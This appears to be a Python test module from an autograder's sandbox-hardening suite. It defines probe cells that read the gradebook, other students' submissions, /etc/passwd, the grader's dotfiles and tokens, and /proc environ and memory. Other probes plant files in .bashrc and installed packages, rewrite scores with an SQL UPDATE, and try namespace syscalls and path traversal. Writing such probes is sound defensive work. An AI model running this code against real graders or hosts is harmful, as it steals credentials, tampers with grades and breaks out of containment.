"""Reading and writing what is not the student's own.

Each is a probe: code of a further cell in a notebook that is solved rightly. It calls `reached()` where it gets what it wants.
"""

from __future__ import annotations

from trials.attacks.attack import Attack
from trials.attacks.honest import OWN_FILES
from trials.attacks.tables.pieces import page_of_tries


def reads(name: str, path: str, kit_only: bool = False) -> Attack:
    """An attack that reads files: `path` is a pattern. The kernel's own connection file is its own."""
    code = f"""
import glob, ipykernel
own = ipykernel.get_connection_file()
for path in [path for path in sorted(glob.glob({path!r}, recursive=True)) if path != own][:50]:
    try:
        text = open(path, "rb").read(100_000)
        print(text[:20_000])
        if text:
            reached(path)
            break
    except OSError:
        pass
tried()
"""
    return Attack(name, "files", OWN_FILES, probe=code, kit_only=kit_only)


def writes(name: str, *paths: str, kit_only: bool = False) -> Attack:
    """An attack that leaves a file in each of some folders (or adds to some files). What it left is seen from outside."""
    code = f"""
import os
for path in {list(paths)!r}:
    try:
        with open(os.path.join(path, "planted-@TOKEN@") if os.path.isdir(path) else path, "ab") as file:
            file.write(b"planted-@TOKEN@")
        print("wrote", path)
    except OSError as error:
        print(type(error).__name__)
tried()
"""
    return Attack(name, "files", OWN_FILES, probe=code, kit_only=kit_only)


ATTACKS = (
    reads("reads the gradebook", "@ROOT@/gradebook.db"),
    reads("reads the solutions in source/", "@ROOT@/source/**/*.ipynb"),
    reads("reads the release and the course's own profile", "@ROOT@/c*.toml"),
    reads("reads what others handed in", "@ROOT@/submitted/*/chatbot/*"),
    reads("reads what was graded before, and its verdicts", "@ROOT@/verdicts/**/*.json", kit_only=True),
    reads("reads remembered answers and executions", "@ROOT@/.autograder/**/*", kit_only=True),
    reads("reads the grader's tokens and keys", "@HOME@/.*"),
    reads("reads connection files of other kernels", "/tmp/llm-autograder-*/**/kernel.json*"),
    reads("reads the kit's library of solutions", "@KIT@/../trials/selftest/solutions/*.py"),
    reads("reads the machine's list of users", "/etc/passwd"),
    *page_of_tries(
        "files",
        """
# %% lists who else is in the course
import os
others = [name for name in os.listdir("@ROOT@/submitted") if name not in os.getcwd()]
assert others

# %% imports the kit's library of solutions
import trials.selftest.solutions as library
print(len(library.RIGHT))

# %% reads the environment of the process that grades
import glob
found = b""
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        found += open(path, "rb").read()
    except OSError:
        pass
print(found[-3000:])
assert b"AUTOGRADER_CANARY" in found

# %% looks for the grader's secrets in its own environment
import os
assert "AUTOGRADER_CANARY" in os.environ

# %% sees, stops or traces the process that grades
import os
os.kill(@PID@, 0)

# %% reads the memory of another process
import glob, os
for path in glob.glob("/proc/[0-9]*/mem"):
    number = path.split("/")[2]
    if number != str(os.getpid()) and "python" in open(f"/proc/{number}/cmdline").read():
        start = int(open(f"/proc/{number}/maps").read().split("-")[0], 16)
        with open(path, "rb") as memory:
            memory.seek(start)
            assert memory.read(16)
            break
else:
    raise OSError("none")
""",
    ),
    writes("writes into the gradebook", "@ROOT@/gradebook.db"),
    writes("writes into source/, release/ and the course", "@ROOT@/source/chatbot", "@ROOT@/release/chatbot", "@ROOT@"),
    writes(
        "writes into what others handed in",
        "@ROOT@/submitted/s000-a-bystander-0/chatbot/private.txt",
        "@ROOT@/submitted",
    ),
    writes(
        "writes verdicts and overrides", "@ROOT@/verdicts/chatbot", "@ROOT@/verdicts", "@ROOT@/overrides", kit_only=True
    ),
    writes(
        "writes remembered answers and executions", "@ROOT@/.autograder", "@ROOT@/.autograder/executions", kit_only=True
    ),
    writes("writes into the model home", "@MODELS@", "@MODELS@/hub", "@MODELS@/config.json"),
    writes("writes into the kit and Python's packages", "@KIT@", "@KIT@/errors.py", "@PACKAGES@"),
    writes("writes into the grader's home", "@HOME@", "@HOME@/.bashrc", "@HOME@/.jupyter"),
    Attack(
        "gives itself points in the gradebook with SQL",
        "files",
        OWN_FILES,
        probe="""
import sqlite3
try:
    with sqlite3.connect("@ROOT@/gradebook.db", timeout=1) as book:
        book.execute("UPDATE grade SET manual_score = 495, auto_score = 495")
    reached("points")
except sqlite3.Error as error:
    print(error)
tried()
""",
        alone=True,
    ),
    *page_of_tries(
        "files",
        """
# %% system calls by their numbers, those of tomorrow among them
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
old = {"unshare": (272, 0x10000000), "setns": (308, 0, 0), "fspick": (433, -100, b"/", 0), "open_tree": (428, -100, b"/", 0),
       "pidfd_getfd": (438, 0, 0, 0), "keyctl": (250, 0, -3, 0), "memfd_create": (319, b"x", 0), "bpf": (321, 5, 0, 0)}
new = {str(number): (number, -100, b"/", 0, 0, 0) for number in range(463, 500)}
got = {name: libc.syscall(*each) for name, each in {**old, **new}.items()}
print({name: number for name, number in got.items() if number >= 0})
assert max(got.values()) >= 0

# %% climbs out of its folder by a path of many ..
import os
assert os.path.exists("../" * 30 + "@ROOT@".lstrip("/") + "/course.toml")
""",
    ),
)
